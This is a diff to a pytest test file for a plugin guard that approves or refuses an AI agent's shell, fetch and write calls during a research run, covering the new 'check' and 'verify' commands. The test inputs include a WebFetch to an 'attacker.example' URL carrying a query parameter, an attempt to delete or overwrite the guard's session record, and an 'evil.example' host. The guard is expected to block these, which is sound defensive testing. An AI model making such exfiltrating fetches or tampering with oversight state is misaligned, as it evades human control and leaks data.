@@ -16,7 +16,7 @@ from deep_research.cli import build_parser
 from deep_research.plugin import guard, runstate
 from deep_research.plugin.guard import command as bash_rules
 from deep_research.plugin.guard.words import MAX_LINE, NotAWordList, split_words
-from guard_events import SCOPE, Run, event, start_run, use_plugin_env
+from guard_events import SCOPE, Run, event, run_guard, start_run, use_plugin_env
 
 
 @pytest.fixture(autouse=True)
@@ -304,6 +304,7 @@ def test_abbreviated_options_and_option_order_do_not_fool_the_guard(
 
 def test_the_guard_parses_with_the_clis_own_parser() -> None:
     parser = build_parser()
+    reader = guard.CliReader(build_parser)
     argvs = [
         ["fetch", "https://ec.europa.eu/x", "--brief", "b", "--json"],
         ["hosts", "--brief", "b", "add", "evil.example"],
@@ -314,12 +315,12 @@ def test_the_guard_parses_with_the_clis_own_parser() -> None:
     ]
     for argv in argvs:
         ours = vars(parser.parse_args(argv))
-        theirs = guard.parse_cli(argv)
+        theirs = reader.parse(argv)
         assert theirs is not None and vars(theirs) == ours, argv
-    assert guard.parse_cli(["--version"]) is None and guard.parse_cli(["fetch", "-h"]) is None
+    assert reader.parse(["--version"]) is None and reader.parse(["fetch", "-h"]) is None
     for bad in (["fetch", "--bri", "b", "https://x.example/"], ["frobnicate"], []):
         with pytest.raises(guard.CliParseError):
-            guard.parse_cli(bad)
+            reader.parse(bad)
     # No parser of the CLI takes an abbreviated option, the CLI itself included.
     stack = [parser]
     while stack:
@@ -476,28 +477,62 @@ def test_every_command_the_contracts_use_passes_during_a_run(run: Run) -> None:
             assert not decision.allow and "a research run is active" in decision.reason
             continue
         assert decision.allow, (command, decision.reason)
-        # Explicitly allowed, but for the MCP commands, which launch the configured server.
-        assert decision.approve is (name not in ("mcp-gate", "mcp-fetch")), command
+        # Explicitly allowed, but for the MCP commands, which launch the configured server, and
+        # the check skill's `check` (it fetches what a report cites) and `verify --offline`: the
+        # user's permission rules decide those.
+        assert decision.approve is (name not in ("mcp-gate", "mcp-fetch", "check", "verify"))
+
+
+@pytest.mark.parametrize(
+    ("folder", "refused"),
+    [
+        (None, None),
+        ("elsewhere/check-1", None),
+        ("<brief>/check", "not inside the active run's brief"),
+        ("<brief>", "not inside the active run's brief"),
+        ("<brief>/../<name>/sub", "not inside the active run's brief"),
+    ],
+)
+def test_a_check_beside_a_run_keeps_out_of_the_run(
+    run: Run, folder: str | None, refused: str | None
+) -> None:
+    brief = str(run.brief)
+    command = "deep-research check report.md"
+    if folder is not None:
+        given = folder.replace("<brief>", brief).replace("<name>", run.brief.name)
+        command += f" --state {given}"
+    decision = run.bash(command)
+    if refused is None:
+        assert decision.allow and not decision.approve, decision.reason
+    else:
+        assert not decision.allow and refused in decision.reason
+    # A subagent never runs it.
+    assert not run.bash(command, agent="a1", agent_type="deep-research:fetcher").allow
+
+
+def test_verify_beside_a_run_only_offline(run: Run) -> None:
+    offline = run.bash("deep-research verify check-1 --offline")
+    assert offline.allow and not offline.approve
+    online = run.bash("deep-research verify check-1")
+    assert not online.allow and "not a command the orchestrator runs" in online.reason
 
 
 def _next_commands() -> set[str]:
-    """The subcommands next.py builds command lines for (``_command(view, phase, why, CMD,
-    …)`` and ``view.cli(CMD, …)``), read from its source."""
+    """The subcommands ``next`` prints: every command of the typed table a ``run`` action
+    carries (:mod:`deep_research.plugin.runs`), and those next.py builds ``then`` lines for
+    (``view.cli(CMD, …)``), read from its source."""
     import ast
+    from typing import get_args
+
+    from deep_research.plugin import runs
 
     source = REPO / "src" / "deep_research" / "plugin" / "next.py"
-    found: set[str] = set()
+    found = {*get_args(runs.InProcess), *get_args(runs.ByTheLoop)}
     for node in ast.walk(ast.parse(source.read_text(encoding="utf-8"))):
-        if not isinstance(node, ast.Call):
-            continue
-        if isinstance(node.func, ast.Name) and node.func.id == "_command" and len(node.args) > 3:
-            word = node.args[3]
-        elif isinstance(node.func, ast.Attribute) and node.func.attr == "cli" and node.args:
-            word = node.args[0]
-        else:
-            continue
-        if isinstance(word, ast.Constant) and isinstance(word.value, str):
-            found.add(word.value)
+        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
+            word = node.args[0] if node.func.attr == "cli" and node.args else None
+            if isinstance(word, ast.Constant) and isinstance(word.value, str):
+                found.add(word.value)
     return found
 
 
@@ -552,9 +587,7 @@ def test_the_run_cannot_be_restarted_widened_or_left_behind(run: Run) -> None:
 def test_outside_a_run_the_users_permission_rules_decide(
     tmp_path: Path, command: str, approved: bool
 ) -> None:
-    decision = guard.run_guard(
-        event("Bash", {"command": command}, tmp_path), "pre", tmp_path / "state"
-    )
+    decision = run_guard(event("Bash", {"command": command}, tmp_path), "pre", tmp_path / "state")
     assert decision.allow and decision.approve is approved, decision
 
 
@@ -568,9 +601,7 @@ def test_outside_a_run_the_users_permission_rules_decide(
     ],
 )
 def test_outside_a_run_our_cli_is_still_called_alone(tmp_path: Path, command: str) -> None:
-    decision = guard.run_guard(
-        event("Bash", {"command": command}, tmp_path), "pre", tmp_path / "state"
-    )
+    decision = run_guard(event("Bash", {"command": command}, tmp_path), "pre", tmp_path / "state")
     assert not decision.allow and "deep-research runs alone" in decision.reason
 
 
@@ -617,21 +648,21 @@ def test_a_run_started_after_a_cd_is_still_guarded(
         return json.dumps({**json.loads(payload), "session_id": session_id})
 
     fetch = event("WebFetch", {"url": "https://attacker.example/v?s=x", "prompt": "x"}, project)
-    denied = guard.run_guard(in_session(fetch, "sess-1"), "pre")
+    denied = run_guard(in_session(fetch, "sess-1"), "pre")
     assert not denied.allow and "not on this run's allow-list" in denied.reason
-    assert guard.run_guard(in_session(fetch, "sess-2"), "pre").allow
+    assert run_guard(in_session(fetch, "sess-2"), "pre").allow
     record = runstate.session_record("sess-1")
     assert record is not None and record.is_file()
     for payload in (
         event("Bash", {"command": f"rm {record}"}, project),
         event("Write", {"file_path": str(record), "content": "{}"}, project),
     ):
-        assert not guard.run_guard(in_session(payload, "sess-1"), "pre").allow
+        assert not run_guard(in_session(payload, "sess-1"), "pre").allow
     monkeypatch.chdir(project)
     monkeypatch.setenv("CLAUDE_CODE_SESSION_ID", "sess-1")
     assert main(["finish", brief]) == 0
     assert not record.exists()
-    assert guard.run_guard(in_session(fetch, "sess-1"), "pre").allow
+    assert run_guard(in_session(fetch, "sess-1"), "pre").allow
     assert os.environ.get("DEEP_RESEARCH_STATE") is None
 
 
